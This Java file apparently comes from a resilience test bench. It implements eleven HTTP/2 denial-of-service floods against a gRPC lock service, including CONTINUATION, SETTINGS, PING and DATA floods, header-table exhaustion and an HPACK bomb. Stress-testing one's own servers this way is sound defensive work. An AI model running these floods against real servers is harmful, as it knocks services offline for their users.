package io.holdfast.bench.floods;

import static io.holdfast.bench.floods.HostileHttp2.CONTINUATION;
import static io.holdfast.bench.floods.HostileHttp2.DATA;
import static io.holdfast.bench.floods.HostileHttp2.END_HEADERS;
import static io.holdfast.bench.floods.HostileHttp2.END_STREAM;
import static io.holdfast.bench.floods.HostileHttp2.HEADERS;
import static io.holdfast.bench.floods.HostileHttp2.HEADER_TABLE_SIZE;
import static io.holdfast.bench.floods.HostileHttp2.INITIAL_WINDOW_SIZE;
import static io.holdfast.bench.floods.HostileHttp2.MAX_FRAME;
import static io.holdfast.bench.floods.HostileHttp2.MAX_WINDOW;
import static io.holdfast.bench.floods.HostileHttp2.PING;

import java.io.IOException;
import java.util.List;

/** Frames of HTTP/2 that cost more than they say. */
final class FrameFloods {

  private static final byte[] SESSION = HeaderBlock.call(Messages.LOCKS + "Session").encoded();
  private static final byte[] TRY_LOCK = HeaderBlock.call(Messages.LOCKS + "TryLock").encoded();
  private static final int ENTRIES = MAX_FRAME / 6;
  private static final int ENTRIES_TAKEN = 16; // a node ends a connection for one more
  private static final int OPEN_STREAMS = 90;
  private static final long CHURN_MS = 110; // just seldom enough for ten in a second
  private static final int HPACK_ERRORS = 2_000;

  private FrameFloods() {}

  static List<Attack> all() {
    return List.of(
        Attack.plain(
            "continuation",
            "header blocks without end, in CONTINUATION frames of 16 KiB",
            siege -> continuation(siege, siege.place().grpc(), MAX_FRAME)),
        Attack.plain(
            "continuation-empty",
            "the same, with nothing in them",
            siege -> continuation(siege, siege.place().grpc(), 0)),
        Attack.plain("settings", "SETTINGS frames, without end", FrameFloods::settings),
        Attack.plain(
            "settings-entries",
            "SETTINGS frames of 2,730 entries each, nine a second",
            FrameFloods::settingsEntries),
        Attack.plain(
            "header-table",
            "a header table of 2 GiB for the answers, whose headers it asks to vary",
            FrameFloods::headerTable),
        Attack.plain(
            "initial-window",
            "initial windows that change 16 times in a frame, nine a second, with many streams"
                + " open",
            FrameFloods::initialWindow),
        Attack.plain("ping", "PING frames, without end", FrameFloods::ping),
        Attack.plain(
            "empty-data", "DATA frames with nothing in them", siege -> data(siege, new byte[0])),
        Attack.plain(
            "one-byte-data", "DATA frames with one byte in each", FrameFloods::oneByteData),
        Attack.plain(
            "hpack-error",
            "2,000 connections with a header block of 50 bytes that is none",
            FrameFloods::hpackError),
        Attack.plain(
            "hpack-bomb",
            "header blocks of 16 KiB that name one field of 4,000 bytes 12,000 times",
            FrameFloods::hpackBomb));
  }

  static void continuation(Siege siege, int port, int size) throws IOException {
    byte[] more = new byte[size];
    while (siege.goesOn()) {
      HostileHttp2 http2 = HostileHttp2.mute(siege, port);
      http2.frame(HEADERS, 0, http2.nextStream(), TRY_LOCK);
      while (siege.goesOn() && http2.frame(CONTINUATION, 0, 1, more)) {}
      http2.close();
    }
  }

  private static void settings(Siege siege) throws IOException {
    again(siege, http2 -> http2.settings());
  }

  private static void ping(Siege siege) throws IOException {
    again(siege, http2 -> http2.frame(PING, 0, 0, new byte[8]));
  }

  private static void settingsEntries(Siege siege) throws IOException {
    int[] entries = new int[2 * ENTRIES];
    for (int i = 0; i < ENTRIES; i++) {
      entries[2 * i] = i % 2 == 0 ? HEADER_TABLE_SIZE : 0x4000 + i; // nobody knows the latter
      entries[2 * i + 1] = i;
    }
    churn(siege, http2 -> http2.settings(entries));
  }

  /** The status of an answer to a method that does not exist, and the name of the method in it. */
  private static void headerTable(Siege siege) throws IOException {
    while (siege.goesOn()) {
      HostileHttp2 http2 = siege.http2();
      http2.settings(HEADER_TABLE_SIZE, MAX_WINDOW);
      boolean open = true;
      for (int i = 0; open && siege.goesOn(); i++) {
        String path = "/grpc.health.v1.Health/" + i + "x".repeat(4_000);
        open =
            http2.frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                http2.nextStream(),
                HeaderBlock.call(path).encoded());
        siege.pause(1);
      }
      http2.close();
    }
  }

  private static void initialWindow(Siege siege) throws IOException {
    int[] entries = new int[2 * ENTRIES_TAKEN];
    for (int i = 0; i < ENTRIES_TAKEN; i++) {
      entries[2 * i] = INITIAL_WINDOW_SIZE;
      entries[2 * i + 1] = i % 2 == 0 ? 0 : 1 << 20;
    }
    churn(siege, http2 -> http2.settings(entries));
  }

  private static void churn(Siege siege, Sender sender) throws IOException {
    while (siege.goesOn()) {
      HostileHttp2 http2 = siege.http2();
      for (int i = 0; i < OPEN_STREAMS; i++) {
        http2.call(SESSION);
      }
      while (siege.goesOn() && sender.send(http2) && http2.flush()) {
        siege.pause(CHURN_MS);
      }
      http2.close();
    }
  }

  private static void data(Siege siege, byte[] bytes) throws IOException {
    while (siege.goesOn()) {
      HostileHttp2 http2 = siege.http2();
      int stream = http2.call(SESSION);
      while (siege.goesOn() && http2.frame(DATA, 0, stream, bytes)) {}
      http2.close();
    }
  }

  /** A message of a session that never comes to its end; the node's windows are kept to. */
  private static void oneByteData(Siege siege) throws IOException {
    byte[] one = {0};
    while (siege.goesOn()) {
      HostileHttp2 http2 = siege.http2();
      int stream = http2.call(SESSION);
      http2.data(stream, Messages.lengthOf(60_000), /* last= */ false);
      while (siege.goesOn() && http2.data(stream, one, /* last= */ false)) {}
      http2.close();
    }
  }

  private static void hpackError(Siege siege) throws IOException {
    byte[] block = new byte[50];
    block[0] = (byte) 0x80; // a field of number 0, which no table has
    for (int i = 0; i < siege.part(HPACK_ERRORS) && siege.goesOn(); i++) {
      HostileHttp2 http2 = siege.http2();
      http2.frame(HEADERS, END_HEADERS | END_STREAM, 1, block);
      http2.flush();
      siege.pause(2);
    }
  }

  private static void hpackBomb(Siege siege) throws IOException {
    byte[] first =
        HeaderBlock.call(Messages.LOCKS + "TryLock").kept("x", "y".repeat(4_000)).encoded();
    byte[] bomb = HeaderBlock.call(Messages.LOCKS + "TryLock").newest(12_000).encoded();
    while (siege.goesOn()) {
      HostileHttp2 http2 = siege.http2();
      http2.call(first);
      boolean open = true;
      for (int i = 0; open && i < OPEN_STREAMS && siege.goesOn(); i++) {
        int stream = http2.nextStream();
        open = http2.frame(HEADERS, END_HEADERS, stream, bomb) && http2.flush();
      }
      siege.pause(500);
      http2.close();
    }
  }

  @FunctionalInterface
  private interface Sender {
    boolean send(HostileHttp2 http2);
  }

  /** On one connection after the other, each until the node ends it. */
  private static void again(Siege siege, Sender sender) throws IOException {
    while (siege.goesOn()) {
      HostileHttp2 http2 = siege.http2();
      while (siege.goesOn() && sender.send(http2)) {}
      http2.close();
    }
  }
}
